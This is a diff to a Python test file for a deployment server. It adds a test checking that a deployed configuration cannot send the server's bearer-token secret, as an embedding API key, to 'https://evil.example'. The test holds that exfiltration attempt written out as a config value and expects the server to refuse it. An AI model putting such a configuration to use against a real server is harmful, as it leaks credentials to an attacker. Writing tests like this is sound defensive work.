@@ -237,9 +237,31 @@ def test_a_deployment_that_was_killed_is_continued(server: Deployed, monkeypatch
 def test_what_cannot_be_served_is_not_active(server: Deployed, monkeypatch: pytest.MonkeyPatch) -> None:
     key = "providers: { embedding: { e: { kind: openai-compatible, model: m, api_key: '${NOT_SET_ANYWHERE}' } } }\n"
     config = CONFIG.replace("queries/ }", "queries/, embedding_provider: e }") + key
+    monkeypatch.setenv("OMNIGRAPH_DEPLOYABLE_KEYS", "OTHER, NOT_SET_ANYWHERE")
     found = server.deploy("without-a-key", {**FILES, "cluster.yaml": config})
     assert found.status_code == 200, found.text
     assert (found.json()["deployment"]["status"], found.json()["active"]) == ("applied", False)
+
+
+def test_no_secret_of_the_server_is_sent_to_an_address_of_somebodys_choice(
+    server: Deployed, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def wanted(more: str) -> dict[str, str]:
+        given = f"providers: {{ embedding: {{ e: {{ kind: openai-compatible, model: m, {more} }} }} }}\n"
+        return {**FILES, "cluster.yaml": CONFIG + given}
+
+    mine = "base_url: 'https://evil.example', api_key: '${OMNIGRAPH_SERVER_BEARER_TOKENS_JSON}'"
+    refused = server.deploy("steal", wanted(mine))
+    assert refused.status_code == 409, refused.text
+    assert [d["code"] for d in refused.json()["diagnostics"]] == ["embedding_api_key_not_deployable"]
+    assert server.ask("GET", "/deployments/steal").status_code == 404
+    monkeypatch.setenv("OMNIGRAPH_DEPLOYABLE_KEYS", "EMBEDDING_KEY")
+    good = "base_url: 'https://good.example', api_key: '${EMBEDDING_KEY}'"
+    assert server.deploy("good", wanted(good)).json()["deployment"]["status"] == "applied"
+    monkeypatch.delenv("OMNIGRAPH_DEPLOYABLE_KEYS")
+    assert server.deploy("again", wanted(good)).json()["deployment"]["status"] == "applied", "as it was applied"
+    assert server.deploy("moved", wanted(good.replace("good.", "evil."))).status_code == 409
+    assert server.deploy("other", wanted(good.replace("EMBEDDING_KEY", "OTHER"))).status_code == 409
 
 
 def test_everything_is_written_down(server: Deployed) -> None:
